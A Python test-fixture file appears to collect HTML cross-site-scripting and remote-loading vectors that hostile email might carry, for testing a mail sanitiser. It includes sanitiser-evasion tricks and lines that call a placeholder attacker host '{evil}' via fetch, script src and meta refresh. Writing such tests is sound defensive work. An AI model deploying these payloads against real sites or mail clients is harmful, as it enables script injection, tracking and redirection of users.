"""What hostile mail tries: to run, to load, to lead away. `{evil}` is a server that listens.

Each says `ran` where it runs. Shapes are those of published collections (OWASP's filter evasion
list, the tests of DOMPurify), written anew.
"""

RAN = "console.log('ran');fetch('http://{evil}/ran')"

VECTORS = [
    f"<script>{RAN}</script>",
    "<script src='http://{evil}/a.js'></script>",
    f'<img src=x onerror="{RAN}">',
    f'<svg onload="{RAN}"><g>',
    f"<svg><script>{RAN}</script></svg>",
    f'<svg><animate onbegin="{RAN}" attributeName=x dur=1s>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RAN}">',
    f'<iframe srcdoc="<script>{RAN.replace(chr(39), "&apos;")}</script>"></iframe>',
    "<iframe src='http://{evil}/frame'></iframe>",
    f'<iframe src="javascript:{RAN}"></iframe>',
    f'<body onload="{RAN}">',
    f'<input autofocus onfocus="{RAN}">',
    f'<details open ontoggle="{RAN}">',
    f"<video autoplay onloadstart=\"{RAN}\" src='http://{{evil}}/v'></video>",
    "<audio autoplay src='http://{evil}/s'></audio>",
    "<object data='http://{evil}/o'></object><embed src='http://{evil}/e'>",
    "<base href='http://{evil}/'><img src='relative'>",
    "<meta http-equiv=refresh content='0;url=http://{evil}/gone'>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RAN}">',
    "<link rel=stylesheet href='http://{evil}/c.css'>",
    "<link rel=preconnect href='http://{evil}'><link rel=dns-prefetch href='//{evil}'>",
    "<link rel=prefetch href='http://{evil}/p'><link rel=preload as=image href='http://{evil}/q'>",
    "<style>@import 'http://{evil}/i.css';b {{ background: url(http://{evil}/u) }}</style><b>x",
    "<style>@font-face {{ font-family: f; src: url(//{evil}/f) }}b {{ font: 1em f }}</style><b>x",
    "<div style='background:u\\72l(http://{evil}/s)'>x</div>",
    "<table background='http://{evil}/t'><tr><td>x</table>",
    "<img srcset='http://{evil}/1 1x'><picture><source srcset='http://{evil}/2'></picture>",
    "<form action='http://{evil}/form'><button autofocus>Send</button></form>",
    f'<a href="javascript:{RAN}">a</a>',
    f'<noscript><p title="</noscript><img src=x onerror={RAN}>"></noscript>',
    f"<template><script>{RAN}</script></template>",
    f'<!--><img src=x onerror="{RAN}">-->',
    f'<xmp><img src=x onerror="{RAN}"></xmp>',
    f"</title><script>{RAN}</script>",
    f'<textarea></textarea><img src=x onerror="{RAN}">',
    "<video poster='http://{evil}/poster'></video><track src='http://{evil}/track'>",
]
